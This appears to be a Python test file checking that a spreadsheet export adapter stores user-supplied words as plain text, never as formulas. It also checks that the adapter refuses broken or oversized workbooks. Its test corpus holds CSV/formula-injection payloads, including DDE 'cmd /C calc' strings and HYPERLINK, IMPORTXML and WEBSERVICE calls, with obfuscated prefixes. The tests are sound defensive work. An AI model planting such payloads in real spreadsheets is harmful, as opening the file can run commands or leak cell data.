"""Tables out and in again: what people wrote never becomes a formula, and comes back as it was."""

import zipfile
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from adapters.office import OfficeFiles
from bot.ports import Column, Sheet, Unreadable
from bot.render.cells import LONGEST, cell_text

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "\x00",
    "'",
    '"',
    ";",
    "|",
    "%",
    " =",
    "\ufeff=",
    "\u200b=",
)
FORMULAS = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"看这里")', "IMPORTXML(A1)", "A1",
    "DDE(\"cmd\";\"/C calc\")", "{1}", "#REF!", "TRUE", "_xlfn.WEBSERVICE(A1)", "1E5", "2026-01-01", "0012",
)  # fmt: skip
CORPUS = [start + formula for start in STARTS for formula in FORMULAS]


def written(*values: str) -> BytesIO:
    """A workbook with these words in one column."""
    sheet = Sheet("问题清单", (Column("原话"),), [(value,) for value in values])
    return BytesIO(OfficeFiles().workbook([sheet]))


def read(content: BytesIO) -> list[tuple[object, str]]:
    """The cells below the title."""
    [grid] = OfficeFiles().read(content.getvalue(), 10_000).values()
    return [line[0] if line else (None, "n") for line in grid[1:]]


def test_no_words_become_a_formula_an_error_or_a_number() -> None:
    book = load_workbook(written(*CORPUS))
    cells = [row[0] for row in book.worksheets[0].iter_rows(min_row=2)]

    assert len(cells) == len(CORPUS)
    for words, cell in zip(CORPUS, cells, strict=True):
        assert cell.data_type == "s", words
        assert cell.value == cell_text(words)
        assert cell.quotePrefix, "stays text when it is edited"


def test_the_file_holds_no_formula_element() -> None:
    with zipfile.ZipFile(written(*CORPUS)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f" not in archive.read(name).replace(b"<formula", b"")


@given(st.lists(st.text(st.characters(), max_size=40), max_size=5))
@settings(max_examples=30, deadline=None)
def test_any_words_come_back_as_a_cell_may_hold_them(values: list[str]) -> None:
    for words, (value, kind) in zip(values, read(written(*values)), strict=False):
        assert (value or "") == cell_text(words)
        assert kind in {"s", "n"}
        assert kind == "s" or value is None


def test_a_title_is_text_too() -> None:
    content = OfficeFiles().workbook([Sheet("一", (Column("=1+1\x00", must=True), Column("+1")))])

    assert OfficeFiles().read(content, 10) == {"一": [[("=1+1*", "s"), ("+1", "s")]]}


def test_words_longer_than_a_cell_are_cut_with_a_sign() -> None:
    [(value, _)] = read(written("长" * 40_000))

    assert isinstance(value, str)
    assert len(value) == LONGEST
    assert value.endswith("…")
    assert cell_text(value) == value


def test_numbers_and_nothing_stay_what_they_are() -> None:
    content = OfficeFiles().workbook([Sheet("一", (Column("几"), Column("空")), [(12, None), (0, "")])])

    [grid] = OfficeFiles().read(content, 10).values()

    assert [line[0] for line in grid[1:]] == [(12, "n"), (0, "n")]
    assert all(cell[0] in {None, ""} for line in grid[1:] for cell in line[1:])


def test_a_formula_in_a_file_is_given_as_what_it_is() -> None:
    book = Workbook()
    book.worksheets[0]["A1"] = "=1+1"
    content = BytesIO()
    book.save(content)

    assert OfficeFiles().read(content.getvalue(), 10) == {"Sheet": [[("=1+1", "f")]]}


@pytest.mark.parametrize("content", [b"", b"no zip", b"PK\x03\x04 broken"])
def test_what_is_no_workbook_is_refused(content: bytes) -> None:
    with pytest.raises(Unreadable, match="broken"):
        OfficeFiles().read(content, 10)


def test_a_sheet_with_too_many_rows_is_refused_by_name() -> None:
    with pytest.raises(Unreadable) as refused:
        OfficeFiles().read(written(*"abc").getvalue(), 3)

    assert (refused.value.kind, refused.value.detail) == ("long", "问题清单")
